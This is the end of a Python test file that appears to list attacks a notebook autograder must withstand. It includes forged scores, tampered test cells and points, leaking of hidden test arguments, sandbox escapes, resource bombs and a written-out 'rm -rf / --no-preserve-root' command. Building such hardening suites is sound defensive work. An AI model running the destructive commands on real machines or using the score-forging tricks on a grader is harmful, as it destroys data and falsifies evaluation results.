    Attack("an array subclass that equals everything", SUBCLASS),
    Attack("float and int subclasses that equal everything", FLOATS),
    Attack("an object whose every method misbehaves", DUNDER),
    Attack("NaN for a result", "def square(x): return float('nan')"),
    Attack("True for a result", "def square(x): return True"),
    Attack("a printed score", after="print('score 2.0')\n2.0"),
    Attack("a forged execute_result", after=FORGED_RESULT),
    Attack("hunting for expected values in frames and gc", FIND_EXPECTED),
    # Changing the notebook.
    Attack("tests replaced by a number", change=test_source("2.0")),
    Attack("tests replaced by a negative number", change=test_source("-1.0")),
    Attack("tests replaced by NaN", change=test_source("float('nan')")),
    Attack("tests emptied", change=test_source("")),
    Attack("tests turned into Markdown", change=lambda nb: [
        by_id(nb, name).update(cell_type="markdown")
        for name in ("test-square", "test-apply")
    ] and nb),
    Attack("points raised", change=metadata(points=1000.0)),
    Attack("points that are no number", change=metadata(points="NaN")),
    Attack("points that are half a letter", change=metadata(points="\ud800"),
           state="scored"),
    Attack("points of two lines", change=metadata(points="2\n12:00:00  bob  graded")),
    Attack("two lists of cells", change=cells_twice),
    Attack("an old format with names that are no text", change=old_format),
    Attack("UTF-16", change=lambda nb: json.dumps(nb).encode("utf-16")),
    Attack("tests declared solutions", change=metadata(solution=True)),
    Attack("tests declared ungraded", change=metadata(grade=False, locked=False)),
    Attack("an impossible schema version", change=metadata(schema_version=99)),
    Attack("an old schema version", change=metadata(schema_version=0)),
    Attack("tests deleted", change=without_tests),
    Attack("grade ids swapped", change=swapped_ids),
    Attack("cell ids all the same", change=same_cell_ids),
    Attack("grade ids of another assignment", change=other_assignment),
    Attack("metadata of wrong types", change=strange_metadata),
    Attack("another kernel", change=other_kernel),
    Attack("6000 cells", change=many_cells, state="unreadable"),
    Attack("100 MB of stored output", change=huge_output),
    Attack("not JSON", change=lambda nb: b"I am no notebook", state="unreadable"),
    Attack("an empty file", change=lambda nb: b"", state="unreadable"),
    Attack("a JSON list", change=lambda nb: b"[1, 2]", state="unreadable"),
    Attack("no UTF-8", change=lambda nb: b"\xff\xfe{}", state="unreadable"),
    Attack(
        "JSON nested too deeply", change=lambda nb: b"[" * 200000, state="unreadable"
    ),
    Attack(
        "a copied test cell (innocent)", RIGHT_SQUARE, RIGHT_APPLY, deserved=4.0,
        change=copied_test, state="scored",
    ),
    # The protocol.
    Attack("junk on the wire", JUNK.format(junk="b'\\xff' * 100")),
    Attack("a giant length on the wire", JUNK.format(junk="b'\\xff\\xff\\xff\\x7f'")),
    Attack("a forged score on the wire", FORGED_SCORE),
    Attack("an answer with the previous call's nonce", OLD_NONCE),
    Attack("a huge result", HUGE_RESULT),
    Attack("a deeply nested result", DEEP),
    Attack("a recursive result", RECURSIVE),
    Attack("a result of ten million lists", WIDE),
    Attack("an integer of ten million bits", GIANT_INT),
    Attack("a late result", LATE),
    Attack("an endless generator", SLOW_ITERATOR),
    Attack("an argument mutated", MUTATE),
    Attack("callbacks with objects that are no data", apply=CALLBACK_OBJECTS),
    Attack("a callback kept for later", CALLBACK_KEPT, CALLBACK_KEPT),
    Attack("a flood of callbacks", apply=CALLBACK_FLOOD),
    Attack("callbacks with huge arguments", apply=CALLBACK_HUGE),
    Attack("callbacks that were not offered", apply=CALLBACK_FORGED),
    Attack("callbacks that carry code", apply=CALLBACK_CODE),
    Attack("a list of twenty million types", before=TYPES_ON_THE_WIRE, own=True),
    Attack("a tensor for the grader itself", before=TENSOR_ON_THE_WIRE, own=True),
    Attack("a dictionary of colliding numbers", before=COLLIDING, own=True),
    Attack("half a message", before=HALF_A_MESSAGE, own=True),
    Attack("answers in advance", before=IN_ADVANCE, own=True),
    Attack("open descriptors beside an answer", DESCRIPTORS_ALONG, own=True),
    Attack("a pool that is never renewed", NO_POOL, own=True),
    Attack("a hook that forbids forks", before=AUDITED, state="crashed", own=True),
    Attack("modules that answer nine to everything", before=IMPORT_HOOK),
    # What a hidden test passes in.
    Attack("printing, raising and storing the arguments", LEAK_BY_GLOBAL,
           after=LEAK_LATER),
    Attack("arguments in names of types", LEAK_BY_TYPE),
    Attack("arguments in shared memory and a pipe", LEAK_SHARED_MEMORY,
           after="print(bytes(shared[:100]))"),
    Attack("arguments in errors named like the grader's", NAMED_LIKE_OURS,
           NAMED_LIKE_OURS, own=True),
    Attack("arguments in a function's name", NAMED_RESULT, own=True),
    # Reports beside the result.
    Attack("a forged report of changes", FORGED_CHANGES, own=True),
    Attack("a forged report of lateness", FORGED_LATENESS, own=True),
    Attack("a result forged with an error beside it", FORGED_PRINT, own=True),
    Attack("half a report", HALF_A_REPORT, own=True),
    Attack("every argument's digest the same", UNEQUAL, own=True),
    Attack("what is given redefined", before=REDEFINED, after=REDEFINED),
    # Results that only mean data.
    Attack("a Fraction that equals everything", SLY_NUMBERS, SLY_NUMBERS),
    Attack("a set whose items cannot be sorted", SLY_SET, SLY_SET),
    Attack("a false pandas", FALSE_PANDAS, FALSE_PANDAS, own=True),
    Attack("endless iterators within a result", ENDLESS_WITHIN, ENDLESS_WITHIN),
    Attack("an iterator of iterators without end", ITERATOR_OF_ITERATORS, own=True),
    # The machine.
    Attack("the course folder, gradebook and home", before=DISK, unsafe=True),
    Attack("the network and other sockets", before=NETWORK),
    Attack("secrets of the environment", before=SECRETS),
    Attack("packages changed for the next student", before=PERSIST, unsafe=True),
    Attack("namespaces, mounts, ptrace, sudo", before=ESCAPE, unsafe=True),
    Attack("killing everybody", before=KILL_ALL, unsafe=True),
    Attack("processes left behind", before=DAEMON),
    Attack("a fork bomb", before=FORK_BOMB, unsafe=True),
    Attack("a memory bomb", before=MEMORY_BOMB, unsafe=True),
    Attack("a memory bomb in many processes", before=MEMORY_IN_FORKS, unsafe=True),
    Attack("memory that is mapped nowhere", before=UNMAPPED, unsafe=True),
    Attack("shared pages of the zero device", before=ZERO_DEVICE),
    Attack("memory in the buffers of sockets", before=IN_SOCKETS, unsafe=True,
           state="crashed"),
    Attack("all signals to the watching process", before=SIGNALS_TO_INIT, unsafe=True),
    Attack("no room for a process", before=NO_ROOM, unsafe=True, state="crashed"),
    Attack("a fork that fails", before=NO_FORK, state="crashed", own=True),
    Attack("priorities and limits of others", before=NICE_TO_NOBODY),
    Attack("a child that answers in the place of a call", before=ANSWERS_INSTEAD,
           own=True),
    Attack("a full disk", before=DISK_FULL, unsafe=True),
    Attack("all inodes", before=INODES, unsafe=True),
    Attack("all descriptors", before=DESCRIPTORS),
    Attack("rm -rf", before="!rm -rf / --no-preserve-root 2>/dev/null; true",
           unsafe=True),
    # Time.
    Attack("an endless cell", before="while True: pass", state="timed out"),
    Attack("a cell that ignores all signals", before=IGNORE_INTERRUPTS,
           state="timed out"),
    Attack("an endless function", HANG),
    Attack("an endless function that ignores signals", STUBBORN),
    Attack("busy threads", before=THREADS),
    Attack("timers disarmed", DISARMED, own=True),
    Attack("an error at the time limit swallowed", SWALLOWED),
    Attack("children that compute while a call sleeps", OTHERS_BURN, unsafe=True),
    Attack("25 busy processes", before=BUSY_BESIDE, unsafe=True),
    Attack("a call that stops its process", STOPPED_IN_A_CALL),
    Attack("endless questions to nobody", before=ENDLESS_INPUT, state="scored"),
    Attack("a debugger that asks nobody", before=DEBUGGER, state="scored"),
    Attack("a child that stops and continues all others", before=STOPS_OTHERS),
    Attack("slow exit handlers", before=ATEXIT),
    Attack("input()", before="input('points? ')"),
    Attack("an endless event loop",
           before="import asyncio\nasyncio.get_event_loop()\n"
           "await asyncio.sleep(1000)"),
    # Ends and noise.
    Attack("os._exit in a cell", before="import os\nos._exit(0)", state="crashed"),
    Attack("a segmentation fault", before=SEGFAULT, state="crashed"),
    Attack("a segmentation fault in a call", SEGFAULT_IN_CALL),
    Attack("SystemExit and KeyboardInterrupt",
           "def square(x): raise KeyboardInterrupt\n",
           "def apply(f, x): raise SystemExit(0)", before="raise SystemExit(0)"),
    Attack("stopping itself", before="import os, signal\n"
           "os.kill(os.getpid(), signal.SIGSTOP)", state="timed out"),
    Attack("200 MB of output", before=HEAVY_OUTPUT),
    Attack("surrogates and malformed displays", before=SURROGATES),
    Attack("HTML, JavaScript and SVG", before=HTML),
    # Floods, each of them within the limits of a cell.
    Attack("empty lists on the wire", JUNK.format(junk=EMPTY_LISTS)),
    Attack("thirty cells of 20 MB", change=many_large_cells, state="scored",
           unsafe=True),
    Attack("a grade id of 20 MB, and points of 5 MB", change=large_names),
    Attack("three thousand pictures with long names", change=many_pictures),
    Attack("4000 cells of 80 ms", change=many_slow_cells, state="timed out",
           unsafe=True),
    Attack("fifteen million lists",
           change=lambda nb: b'{"cells": [' + b"[]," * 15_000_000 + b"[]]}",
           state="unreadable", unsafe=True),
    # What acts on those who read.
    Attack("Markdown, mathematics and raw cells that act", change=acting_texts,
           state="scored"),
    Attack("code in a language that is colored slowly",
           change=code_in_a_slow_language, state="scored"),
    Attack("HTML nested 50000 deep", before=NESTED, state="scored"),
    Attack("a picture that unpacks to 400 MB", before=BOMB, state="scored"),
    # Files.
    Attack("files named like modules", before="import numpy, proctor.inside.examiner",
           files=dict.fromkeys(
               ("numpy.py", "sitecustomize.py", "IPython.py", "conftest.py",
                "torch.py", "json.py"), MODULE)),
    Attack("a file named like the grader", before="import proctor.inside.examiner",
           files={"proctor/__init__.py": b"", "proctor/examiner.py": FAKE_MODULE}),
]  # fmt: skip

LEAKS = (str(HIDDEN), "CANARY", "ESCAPED", "REACHED", "WROTE", "FOUND ['")
